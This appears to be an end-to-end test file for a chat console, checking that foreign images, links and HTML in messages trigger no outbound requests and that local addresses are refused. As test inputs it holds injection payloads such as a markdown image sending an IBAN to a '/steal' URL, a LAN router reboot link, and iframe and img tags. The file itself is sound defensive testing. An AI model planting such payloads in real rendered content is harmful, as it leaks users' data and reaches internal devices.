import { once } from 'node:events';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { english } from '../../../web/src/locales/en/index.ts';
import { fingerprint } from '../../src/lib/token.ts';
import { type Chat, openChat } from '../end-to-end/api-client.ts';
import { looksClosely } from '../shared/looks-closely.ts';
import { type ConsoleVisit, visitConsole } from './console-visit.ts';
import { fill } from './texts.ts';

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

let visit: ConsoleVisit;
/** A foreign server, which records the requests it receives. */
let stranger: Server;
let called: string[];
let origin: string;
let chat: Chat;
/** Origins other than that of the console that pages asked for. */
const foreign: string[] = [];
vi.setConfig({ testTimeout: 60_000 });

beforeAll(async () => {
  visit = await visitConsole();
  called = [];
  stranger = createServer((request, response) => {
    called.push(request.url ?? '');
    response.setHeader('content-type', 'image/png').end(png);
  });
  stranger.listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  origin = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  visit.page.on('request', (request) => {
    const { protocol, origin: asked } = new URL(request.url());
    if (protocol.startsWith('http') && asked !== visit.network.address) foreign.push(request.url());
  });
  const pipeline = (await visit.call('GET', '/api/v1/pipelines')).pipelines[0].uuid;
  const headers = { authorization: `Bearer ${visit.token}` };
  chat = await openChat(visit.address, { pipeline, headers });
}, 120_000);
afterAll(async () => {
  await chat?.close();
  await visit?.close();
  stranger?.closeAllConnections();
  stranger?.close();
}, 30_000);

/** Says something; the demo model repeats it. @returns the uuids of the message and of its answer */
async function say(message: object[], text: string): Promise<{ inbound: string; outbound: string }> {
  chat.send({ type: 'message', message });
  const { data } = await chat.answer(text);
  const find = async () => {
    const { messages } = await visit.call('GET', `/api/v1/messages?text=${text}`);
    return messages as { uuid: string; direction: string }[];
  };
  await expect.poll(async () => (await find()).length, { timeout: 10_000 }).toBe(2);
  const [inbound, outbound] = ['inbound', 'outbound'].map((wanted) =>
    (async () => (await find()).find(({ direction }) => direction === wanted)?.uuid)(),
  );
  expect(data.uuid).toBe(await outbound);
  return { inbound: (await inbound) as string, outbound: (await outbound) as string };
}

const imageFrom = (host: string) => fill(english.common.imageFrom, { host });
async function looksAt(path: string): Promise<void> {
  await visit.page.goto(visit.network.address + path);
  await visit.page.locator('#content').waitFor();
  await visit.page.waitForLoadState('networkidle');
}

test.runIf(looksClosely)('images, links and HTML of other origins make no request on any page', async () => {
  const { page } = visit;
  // The demo model repeats 500 characters.
  const images = [
    'exfiltration',
    `![](${origin}/steal?d=IBAN) ![lan](http://192.168.1.1/reboot) ![](//127.0.0.1/relative) [![badge](${origin}/badge)](${origin}/target)`,
    `<img src="${origin}/html"> <iframe src="${origin}/frame"></iframe>`,
    `<video src="${origin}/video"></video> <link rel="stylesheet" href="${origin}/style">`,
  ].join('\n\n');
  const links = `destinations [click here](${origin}/link) [https://bank.example](${origin}/bank) <${origin}/plain>`;
  const image = { type: 'Image', url: `${origin}/inbound-image.png` };
  const { inbound, outbound } = await say([{ type: 'Plain', text: images }, image], 'exfiltration');
  const { outbound: linked } = await say([{ type: 'Plain', text: links }], 'destinations');
  const { message } = await visit.call('GET', `/api/v1/messages/${outbound}`);
  const before = visit.complaints.length;
  for (const path of [
    `/messages/${inbound}`,
    `/messages/${outbound}`,
    `/messages/${linked}`,
    `/messages/conversation?bot=${message.bot_uuid}&session=person_${message.session_id}`,
    '/messages',
    '/chat',
    '/',
  ]) {
    await looksAt(path);
    expect([foreign, called], path).toEqual([[], []]);
  }
  // Nothing was even tried: the policy of the page had nothing to stop.
  expect(visit.complaints.slice(before).filter((text) => /content security policy/i.test(text))).toEqual([]);

  const host = new URL(origin).host;
  const text = page.locator('.markdown').first();
  const shown = () =>
    text
      .locator('a')
      .evaluateAll((all) =>
        (all as HTMLAnchorElement[]).map(({ href, rel, textContent }) => [new URL(href).pathname, textContent, rel]),
      );
  const rel = 'noopener noreferrer nofollow';
  await looksAt(`/messages/${outbound}`);
  expect(await shown()).toEqual([
    ['/steal', imageFrom(host), rel],
    ['/reboot', `lan – ${imageFrom('192.168.1.1')}`, rel],
    ['/target', `badge – ${imageFrom(host)}`, rel],
  ]);
  await visit.look('message-foreign-images');
  await looksAt(`/messages/${linked}`);
  expect(await shown()).toEqual([
    ['/link', 'click here', rel],
    ['/bank', 'https://bank.example', rel],
    ['/plain', `${origin}/plain`, rel],
  ]);
  // Where a link leads stands beside it, unless its text says so.
  const read = await text.innerText();
  expect(read).toContain(`click here (${host}) https://bank.example (${host}) ${origin}/plain`);
  expect(read).not.toContain(`${origin}/plain (`);
  await visit.look('message-foreign-links');
});

test('the policy of pages allows images of this server alone', async () => {
  const { page } = visit;
  const response = await page.goto(visit.network.address);
  expect(response?.headers()['content-security-policy']).toContain("img-src 'self' data: blob:;");
  const outcome = await page.evaluate(
    (address) =>
      new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve('loaded');
        image.onerror = () => resolve('refused');
        image.src = address;
      }),
    `${origin}/planted`,
  );
  expect([outcome, called]).toEqual(['refused', []]);
  foreign.length = 0;
});

test('the server loads the image of a message on request', async () => {
  const { page } = visit;
  const url = `${origin}/photo.png`;
  const { inbound } = await say(
    [
      { type: 'Plain', text: 'photograph' },
      { type: 'Image', url },
    ],
    'photograph',
  );
  await looksAt(`/messages/${inbound}`);
  await page.getByRole('link', { name: imageFrom(new URL(origin).host) }).waitFor();
  await visit.look('message-image-elsewhere');
  // The address is one of this machine, which nothing that arrives in a message may reach.
  await page.getByRole('button', { name: english.common.loadImage }).click();
  await page
    .getByRole('alert')
    .getByText(fill(english.problems.address_refused, { host: '127.0.0.1' }))
    .waitFor();
  await visit.look('message-image-refused');
  expect(called).toEqual([]);

  // As if it had been fetched from a public address before.
  const { settings } = await visit.call('GET', '/api/v1/system/status');
  const dataDir = settings.find(({ name }: { name: string }) => name === 'data_dir').value;
  const folder = join(dataDir, 'cache', 'images');
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, fingerprint(JSON.stringify([inbound, 1, url]))), png);
  await page.getByRole('button', { name: english.common.loadImage }).click();
  const image = page.getByRole('img', { name: english.messages.picture });
  await expect.poll(() => image.evaluate((shown) => (shown as HTMLImageElement).naturalWidth)).toBe(1);
  expect(await image.getAttribute('src')).toMatch(/^blob:/);
  expect([foreign, called]).toEqual([[], []]);
});
